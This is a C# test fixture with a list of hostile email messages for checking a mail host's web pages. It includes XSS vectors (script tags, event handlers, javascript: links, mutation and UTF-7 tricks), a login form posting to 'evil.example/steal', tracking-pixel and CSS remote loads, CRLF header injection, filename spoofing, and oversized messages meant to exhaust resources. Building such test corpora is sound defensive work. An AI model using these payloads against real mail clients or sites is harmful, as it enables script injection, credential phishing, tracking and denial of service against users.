using System.Text;

namespace Smtp.Host.Tests.Web.Pages;

/// <summary>Messages that nobody should have to read.</summary>
internal static class Hostile
{
    public const string Elsewhere = "evil.example";

    public static IReadOnlyList<(string Name, string Content)> All { get; } = [.. Make()];

    public static string Named(string name) => All.Single(one => one.Name == name).Content;

    private static IEnumerable<(string Name, string Content)> Make()
    {
        yield return ("script", Html("<script>console.log('ran',1)</script><script src=\"https://evil.example/x.js\"></script><p>read me</p>"));
        yield return ("handlers", Html("<body onload=console.log('ran',1)><img src=x onerror=console.log('ran',2)><a href=\"javascript:console.log('ran',3)\" onclick=console.log('ran',4)>x</a><details open ontoggle=console.log('ran',5)>d</details>"));
        yield return ("forms", Html("<form action=\"https://evil.example/steal\" method=post><input name=p autofocus onfocus=console.log('ran',1)><button formaction=https://evil.example/b>Log in</button></form>"));
        yield return ("refresh", Html("<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\"><p>gone?"));
        yield return ("images", Html("<img src=\"https://evil.example/pixel.gif\"><img srcset=\"https://evil.example/2x.png 2x\"><picture><source srcset=https://evil.example/s.png></picture><video poster=https://evil.example/v.png></video><table background=https://evil.example/t.png>"));
        yield return ("styles", Html("<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style><link rel=stylesheet href=https://evil.example/c.css><link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example><p style=\"background:url('//evil.example/d.png')\">x</p>"));
        yield return ("svg", Html("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=console.log('ran',1)><script>console.log('ran',2)</script><image href=\"https://evil.example/i.png\"/><use href=\"https://evil.example/u.svg#x\"/><a xlink:href=\"javascript:console.log('ran',3)\"><text>x</text></a><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>"));
        yield return ("svg picture", "From: ann@example.org\nSubject: svg\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"cid:s@x\">\n--b\nContent-Type: image/svg+xml\nContent-ID: <s@x>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"console.log('ran',1)\"><script>console.log('ran',2)</script><image href=\"https://evil.example/i.png\"/></svg>\n--b--\n");
        yield return ("svg styles", Html("<svg><style>@import url(https://evil.example/s.css);</style><filter id=f><feImage href=\"https://evil.example/fe.png\"/></filter><rect filter=url(https://evil.example/f.svg#f) width=9 height=9 /><animate attributeName=href values=\"javascript:console.log('ran',1)\"/></svg>"));
        yield return ("more styles", Html("<style>@import '//evil.example/i.css';a{content:url(//evil.example/c.png);cursor:url(https://evil.example/u.cur),auto;list-style:url(https://evil.example/l.png);background:image-set('https://evil.example/is.png' 1x)}input[value^=a]{background:url(https://evil.example/a)}@media screen{b{-webkit-mask:url(https://evil.example/m.svg)}}</style><input value=abc><a>x</a><b style=\"border-image:url(https://evil.example/bi.png) 1\">y</b>"));
        yield return ("more remote", Html("<img src=\"//evil.example/p.png\"><img src=\" https://evil.example/s.png\"><img src=\"h&#116;tps://evil.example/e.png\"><input type=image src=https://evil.example/in.png><audio src=https://evil.example/a.mp3 autoplay></audio><video autoplay><source src=https://evil.example/v.mp4><track default src=https://evil.example/t.vtt></video><link rel=prefetch href=https://evil.example/pf><link rel=stylesheet href=//evil.example/x.css><bgsound src=https://evil.example/b.wav><body background=https://evil.example/body.png>"));
        yield return ("links", Html("<a href=\"javascript:console.log('ran',1)\">a</a> <a href=\"java&#x09;script&colon;console.log('ran',2)\">b</a> <a href=\"data:text/html,<script>console.log('ran',3)</script>\">c</a> <a href=\" JaVaScRiPt:console.log('ran',4)\">d</a> <a href=\"/queue\">e</a> <a href=\"vbscript:x\">f</a> <a href=\"https://evil.example/ok\" ping=\"https://evil.example/ping\">g</a> <area href=\"javascript:console.log('ran',5)\">"));
        yield return ("other charset", "From: ann@example.org\nSubject: utf-7\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-console.log('ran',1)+ADw-/script+AD4-<p>seven</p>\n");
        yield return ("encoded", $"From: ann@example.org\nSubject: encoded\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(Encoding.UTF8.GetBytes("<ScRiPt>console.log('ran',1)</sCrIpT><img/src=x/onerror=console.log('ran',2)><scr\0ipt>console.log('ran',3)</scr\0ipt><p>hi"))}\n");
        yield return ("a letter within", "From: ann@example.org\nSubject: outer\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nouter\n--b\nContent-Type: message/rfc822\n\nSubject: <script>console.log('ran',1)</script>\nContent-Type: text/html\n\n<script>console.log('ran',2)</script>\n--b--\n");
        yield return ("deep html", Html(string.Concat(Enumerable.Repeat("<div><table><tr><td>", 1000)) + "<script>console.log('ran',1)</script>bottom"));
        yield return ("open ends", Html("<p>fine</p><style>p{color:red}<!-- <script>console.log('ran',1)</script> <img src=https://evil.example/o.png> <textarea><title><plaintext><xmp>"));
        yield return ("frames", Html("<iframe src=https://evil.example/></iframe><iframe srcdoc=\"<script>console.log('ran',1)</script>\"></iframe><object data=https://evil.example/o></object><embed src=https://evil.example/e><portal src=https://evil.example/p></portal>"));
        yield return ("mutation", Html("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=console.log('ran',1)&gt;\"></table><noscript><p title=\"</noscript><img src=x onerror=console.log('ran',2)>\"></noscript><a\"b onclick=console.log('ran',3)>x<img src=\"https://evil.example/m.png\"\nonerror=console.log('ran',4)//"));
        yield return ("subject", $"From: \"<script>console.log('ran',1)</script>\" <ann@example.org>\nTo: bob@example.net\nSubject: <img src=https://evil.example/x onerror=console.log('ran',1)>\"'><script>console.log('ran',2)</script>\nContent-Type: text/plain\n\n<script>console.log('ran',3)</script> https://evil.example/link?\"onmouseover=console.log('ran',4)\n");
        yield return ("injection", "From: ann@example.org\nTo: bob@example.net\nSubject: =?utf-8?Q?a=0D=0ASet-Cookie:_x=3D1=0D=0A=0D=0A<script>?=\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhello\n--b\nContent-Type: text/html; name=\"a.html\"\nContent-Disposition: attachment; filename*=utf-8''a%0D%0AX-Evil:%201%22;.html\n\n<script>console.log('ran',1)</script>\n--b--\n");
        yield return ("broken", "Subject: broken\nContent-Type: multipart/mixed; boundary=\"never\nContent-Transfer-Encoding: base64\n\n--never\n%%%%\n--nev");
        yield return ("no header", "\n\n\n<script>console.log('ran',1)</script>\n");
        yield return ("huge header", $"From: ann@example.org\nSubject: {new string('x', 300_000)}\nX-Long: {new string('y', 1_200_000)}\n\nhello\n");
        yield return ("many headers", $"From: ann@example.org\nSubject: many\n{string.Concat(Enumerable.Range(0, 20_000).Select(i => $"X-{i}: {i}\n"))}\nhello\n");
        yield return ("many parts", Parts(10_000));
        yield return ("deep", Deep(300));
        yield return ("many inline", ManyInline());
        yield return ("controls", "From: ann@example.org\nSubject: =?utf-8?Q?invoice=E2=80=AEfdp.exe?=\nContent-Type: text/plain; charset=utf-8\n\n\u202Egnp.exe \u0007\u001b[31m red\n");
    }

    public static string Html(string html) =>
        $"From: ann@example.org\nTo: bob@example.net\nSubject: hostile\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{html}\n";

    private static string Parts(int count)
    {
        var text = new StringBuilder("From: ann@example.org\nSubject: parts\nContent-Type: multipart/mixed; boundary=b\n\n");
        for (var i = 0; i < count; i++) text.Append("--b\nContent-Type: application/pdf; name=\"").Append(i).Append(".pdf\"\n\nx\n");
        return text.Append("--b--\n").ToString();
    }

    private static string Deep(int depth)
    {
        var text = new StringBuilder("From: ann@example.org\nSubject: deep\n");
        for (var i = 0; i < depth; i++) text.Append("Content-Type: multipart/mixed; boundary=b").Append(i).Append("\n\n--b").Append(i).Append('\n');
        return text.Append("Content-Type: text/plain\n\nhello\n").ToString();
    }

    private static string ManyInline()
    {
        var picture = Convert.ToBase64String(new byte[200_000]);
        var html = string.Concat(Enumerable.Repeat("<img src=\"cid:p@x\">", 500));
        return "From: ann@example.org\nSubject: inline\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n" + html
            + "\n--b\nContent-Type: image/png\nContent-ID: <p@x>\nContent-Transfer-Encoding: base64\n\n" + picture + "\n--b--\n";
    }
}
